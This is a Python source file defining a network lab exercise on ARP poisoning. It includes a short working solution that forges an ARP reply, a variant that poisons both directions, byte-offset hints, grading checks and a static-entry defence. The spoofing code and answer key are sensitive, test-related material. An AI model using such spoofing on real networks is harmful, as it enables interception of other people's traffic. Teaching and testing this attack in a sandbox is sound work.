"""Exercise 6: ARP poisoning, and the victim's table (RFC 826)."""

from __future__ import annotations

import socket
from collections.abc import Generator
from typing import Any

from rawkit.lab import Check, Defence, Exercise, Link, Prediction, Seed, Stage, Topology, Values, Wrong, python

__all__ = ["EXERCISE"]

TASK = """
You, a victim and a gateway share a switch. The victim knows the gateway already. Make the victim believe that the
gateway, `{gateway}`, is at **your** MAC address, `{your_mac}`, so that what the victim sends to the gateway comes
to you. Lie about the gateway alone: what the gateway knows of the victim, `{victim}` at `{victim_mac}`, must stay
as it is. Your command may end once the lie is told: when it has ended, the victim sends a datagram to the gateway.
"""

SOLUTION = """
import os
from rawkit import ARP, Ethernet
from rawkit.link import PacketSocket

me, victim = os.environ["LAB_YOUR_MAC"], os.environ["LAB_VICTIM_MAC"]
lie = ARP.is_at(os.environ["LAB_GATEWAY"], me, to=os.environ["LAB_VICTIM"], to_mac=victim)
with PacketSocket("eth0") as link:
    link.send(Ethernet(dst=victim, src=me) / lie)
"""

BOTH_WAYS = """
    gateway = os.environ["LAB_GATEWAY_MAC"]
    lie = ARP.is_at(os.environ["LAB_VICTIM"], me, to=os.environ["LAB_GATEWAY"], to_mac=gateway)
    link.send(Ethernet(dst=gateway, src=me) / lie)
"""


def values(seed: Seed) -> dict[str, Any]:
    """Three stations, and what the victim sends in the end."""
    network = seed.network()
    addresses = {name: seed.address(network) for name in ("you", "victim", "gateway")}
    macs = {f"{name}_mac": seed.mac() for name in ("your", "victim", "gateway")}
    return {**addresses, **macs, "_nonce": seed.nonce(), "_port": seed.port()}


def topology(v: Values) -> Topology:
    """Three hosts on a switch."""
    macs = {"you": v.your_mac, "victim": v.victim_mac, "gateway": v.gateway_mac}
    return Topology(
        [Link(name, "switch", (f"{v[name]}/24", ()), (mac, None)) for name, mac in macs.items()],
        switches=["switch"],
    )


def say(stage: Stage, text: str) -> None:
    """Have the victim send the gateway a datagram, to a port where nobody listens."""
    with stage.host("victim").open(socket.socket, socket.AF_INET, socket.SOCK_DGRAM) as sender:
        sender.sendto(text.encode(), (stage.values.gateway, stage.values._port))


def scene(stage: Stage) -> Generator[None, None, None]:
    """The victim talks to the gateway before, and after, the student's command."""
    v = stage.values
    for name in ("victim", "gateway"):
        stage.host(name).set_sysctls({"ipv4/neigh/eth0/locktime": 0})  # else nothing new is believed for a second
    say(stage, "hello")
    stage.wait_until(lambda: stage.wire.received_by("victim").icmp(type=3, code=3).saw().passed)  # both know now
    if stage.defended:
        stage.host("victim").set_neighbor(v.gateway, v.gateway_mac)
    yield
    lies = {"sender_ip": v.gateway, "sender_mac": v.your_mac}
    stage.wait_until(lambda: stage.wire.received_by("victim").arp(**lies).saw().passed, seconds=1)
    say(stage, v._nonce)
    stage.wait_until(lambda: stage.wire.sent_by("switch").payload(v._nonce).saw().passed, seconds=1)


EXERCISE = Exercise(
    name="arp-poison",
    number=6,
    level=2,
    title="ARP poisoning, and the victim's table",
    learnt="Why a host believes any answer about who is where, and what that lets a neighbour do.",
    values=values,
    topology=topology,
    scene=scene,
    task=TASK,
    prediction=Prediction(
        "The victim never asked. Does Linux believe an ARP reply that it did not ask for, about an address that "
        "it knows? (yes or no)",
        lambda _: "yes",
        "An entry that exists is updated by whatever reply comes (RFC 826, packet reception); only new entries "
        "are not made unasked (arp_accept in the kernel's ip-sysctl).",
    ),
    hints=(
        "ARP has no proof of who speaks. A host believes what it was told last about an address that it knows.",
        "In a reply (operation 2), the pair of sender_ip and sender_mac is what the receiver stores.",
        "In the frame, sender_mac is in bytes 22 to 27, sender_ip in 28 to 31; bytes 0 to 5 are the victim's MAC.",
    ),
    checks=[
        Check(
            "lie",
            "you tell {victim} that {gateway} is at {your_mac}",
            lambda e: e.wire.sent_by("you").arp(sender_ip=e.values.gateway, sender_mac=e.values.your_mac).saw(),
            "RFC 826, packet reception",
        ),
        Check(
            "believed",
            "the victim's table says so",
            lambda e: e.neighbour("victim", e.values.gateway).is_(e.values.your_mac),
            "RFC 826, packet reception",
        ),
        Check(
            "caught",
            "what the victim sends to {gateway} comes to you",
            lambda e: (
                e.wire.received_by("you")
                .ether(dst=e.values.your_mac)
                .ip(dst=e.values.gateway)
                .payload(e.values._nonce)
                .saw()
            ),
            "RFC 894, Address Mappings",
        ),
        Check(
            "quiet",
            "the gateway still knows where the victim is",
            lambda e: e.neighbour("gateway", e.values.victim).is_(e.values.victim_mac),
            "RFC 826, packet reception",
        ),
    ],
    defence=Defence("a permanent entry for the gateway in the victim's table", "believed"),
    solution=python(SOLUTION),
    wrong=[
        Wrong(
            python(SOLUTION.replace('os.environ["LAB_GATEWAY"], me,', 'os.environ["LAB_YOU"], me,')),
            "lie",
            "sender_ip is",
        ),
        Wrong(
            python(SOLUTION.replace("dst=victim", 'dst=os.environ["LAB_GATEWAY_MAC"]')),
            "believed",
            "victim believes that",
        ),
        Wrong(python(SOLUTION + BOTH_WAYS), "quiet", "gateway believes that"),
    ],
)
